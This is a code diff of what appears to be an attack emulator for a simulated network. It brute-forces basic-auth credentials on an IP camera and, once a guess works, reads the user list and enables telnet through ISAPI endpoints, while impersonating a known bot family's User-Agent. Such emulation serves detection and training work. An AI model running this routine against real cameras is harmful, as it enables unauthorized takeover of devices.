@@ -27,6 +27,7 @@ AFTERWARDS = (
     ("GET", "/ISAPI/Security/users"),
     ("PUT", "/ISAPI/System/Network/telnetd"),
 )
+TOOL = {"User-Agent": "Hello, world"}  # as a well-known family of bots calls itself
 
 
 def run(node: Node) -> None:
@@ -34,11 +35,9 @@ def run(node: Node) -> None:
     base = f"http://{node.peer('camera-gate')}"
     for guess in GUESSES:
         with contextlib.suppress(requests.RequestException):
-            reply = requests.get(
-                base + "/", auth=guess, timeout=2, headers={"User-Agent": "Hello, world"}
-            )
+            reply = requests.get(base + "/", auth=guess, timeout=2, headers=TOOL)
             if reply.ok:
                 for method, path in AFTERWARDS:
-                    requests.request(method, base + path, auth=guess, timeout=2)
+                    requests.request(method, base + path, auth=guess, timeout=2, headers=TOOL)
                 return
         node.pause(0.3)
